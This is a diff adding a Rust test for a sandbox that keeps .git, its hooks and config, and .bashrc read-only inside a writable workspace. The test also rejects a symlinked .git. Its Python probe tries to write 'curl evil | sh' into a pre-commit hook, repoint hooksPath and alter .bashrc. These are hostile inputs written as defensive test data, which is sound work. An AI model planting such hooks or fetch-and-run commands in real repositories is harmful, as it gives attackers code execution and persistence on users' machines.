@@ -376,3 +376,60 @@ fn g9_report_lists_every_mechanism() {
     let memory_by = r.enforced(Mechanism::Cgroup) || r.enforcement.iter().any(|e| e.detail.contains(", as "));
     assert!(memory_by, "memory is limited by neither a cgroup nor RLIMIT_AS: {:#?}", r.enforcement);
 }
+
+#[test]
+fn g10_protected_paths_in_a_writable_workspace_stay_read_only() {
+    require!("g10_protected_paths_in_a_writable_workspace_stay_read_only");
+    let ws = host_dir("ws-protected");
+    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+    std::fs::write(ws.join(".bashrc"), "# rc\n").unwrap();
+    if is_root() {
+        for p in [".git", ".git/hooks", ".git/config", ".bashrc"] {
+            std::os::unix::fs::chown(ws.join(p), Some(stockade_process::NOBODY), Some(stockade_process::NOBODY))
+                .unwrap();
+        }
+    }
+    let job = probe_py(
+        r#"
+attempt("hook", lambda: open("/workspace/.git/hooks/pre-commit", "w").write("curl evil | sh"))
+attempt("config", lambda: open("/workspace/.git/config", "a").write("[core]\n\thooksPath = /tmp"))
+attempt("bashrc", lambda: open("/workspace/.bashrc", "a").write("evil"))
+attempt("rename_git", lambda: os.rename("/workspace/.git", "/workspace/git.bak"))
+attempt("unlink_bashrc", lambda: os.unlink("/workspace/.bashrc"))
+attempt("create_vscode", lambda: os.mkdir("/workspace/.vscode"))
+attempt("ordinary", lambda: open("/workspace/notes.txt", "w").write("fine"))
+"#,
+    )
+    .with_workspace(&ws, Access::ReadWrite)
+    .unwrap();
+    let r = run(job);
+    let out = stdout(&r);
+    for label in ["hook", "config", "bashrc"] {
+        assert!(["EROFS", "EACCES"].contains(&line(&out, label)), "{label}: {out}");
+    }
+    for label in ["rename_git", "unlink_bashrc"] {
+        assert!(["EBUSY", "EROFS", "EACCES"].contains(&line(&out, label)), "{label}: {out}");
+    }
+    assert_eq!(line(&out, "ordinary"), "OK", "{out}");
+    // Absent protected paths are creatable, and the report says which were absent.
+    assert_eq!(line(&out, "create_vscode"), "OK", "{out}");
+    let view = r.enforcement.iter().find(|e| e.mechanism == Mechanism::MountNamespace).unwrap();
+    assert!(view.detail.contains("read-only inside the workspace: .git .bashrc"), "{}", view.detail);
+    // The host sees nothing planted.
+    assert!(!ws.join(".git/hooks/pre-commit").exists());
+    assert_eq!(std::fs::read_to_string(ws.join(".git/config")).unwrap(), "[core]\n");
+    assert_eq!(std::fs::read_to_string(ws.join(".bashrc")).unwrap(), "# rc\n");
+    assert!(ws.join(".git").is_dir() && !ws.join("git.bak").exists());
+    // A protected path that is a symlink refuses the grant.
+    let linked = host_dir("ws-linked");
+    std::os::unix::fs::symlink("/tmp", linked.join(".git")).unwrap();
+    let r = run(sh("echo ran").with_workspace(&linked, Access::ReadWrite).unwrap());
+    assert!(
+        matches!(&r.status, Status::FailedToStart { reason } if reason.contains(".git in the read-write workspace is a symlink")),
+        "{r:#?}"
+    );
+    assert_eq!(stdout(&r), "");
+    let _ = std::fs::remove_dir_all(&ws);
+    let _ = std::fs::remove_dir_all(&linked);
+}
